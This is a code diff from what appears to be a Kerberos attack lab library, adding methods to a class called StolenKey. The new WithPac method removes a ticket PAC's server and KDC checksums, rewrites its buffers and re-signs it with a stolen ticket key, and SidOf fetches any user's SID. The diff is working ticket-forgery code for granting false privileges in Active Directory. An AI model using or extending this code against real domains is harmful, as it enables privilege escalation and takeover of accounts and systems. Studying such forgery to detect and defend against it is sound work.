@@ -6,6 +6,7 @@ using Keyway.ActiveDirectory.Reading;
 using Keyway.Kerberos;
 using Keyway.Kerberos.Exchange;
 using Keyway.Kerberos.Messages;
+using Keyway.Kerberos.Pac;
 using Keyway.Kerberos.PartialTickets;
 
 namespace Keyway.Lab.Walk;
@@ -76,6 +77,18 @@ public sealed class StolenKey : IDisposable
         var part = EncTicketPart.Parse(_ticketKey.Decrypt(KeyUsage.Ticket, sealedPart.Cipher).Value).Value;
         var cipher = _ticketKey.Encrypt(KeyUsage.Ticket, change(part).Encode());
         return ticket with { Ticket = ticket.Ticket with { EncryptedPart = sealedPart with { Cipher = cipher } } };
+    }
+
+    /// <summary>The SID of anyone.</summary>
+    public SecurityIdentifier SidOf(string user) => _users[user].Sid;
+
+    /// <summary>Changes the PAC's buffers and signs it again with the stolen key.</summary>
+    public EncTicketPart WithPac(EncTicketPart part, Func<IEnumerable<PacBuffer>, IEnumerable<PacBuffer>> change)
+    {
+        var pac = PrivilegeAttributeCertificate.Parse(AuthorizationDataElement.FindPac(part.AuthorizationData).Value).Value;
+        var buffers = pac.Buffers.Where(buffer => buffer.Type is not (PacBufferType.ServerChecksum or PacBufferType.KdcChecksum));
+        var rebuilt = PrivilegeAttributeCertificate.Build([.. change(buffers)], _ticketKey, _ticketKey, (ushort)Key.BranchId);
+        return part with { AuthorizationData = [AuthorizationDataElement.ForPac(rebuilt)] };
     }
 
     /// <summary>Step 6, Exchange, at the real domain controller.</summary>
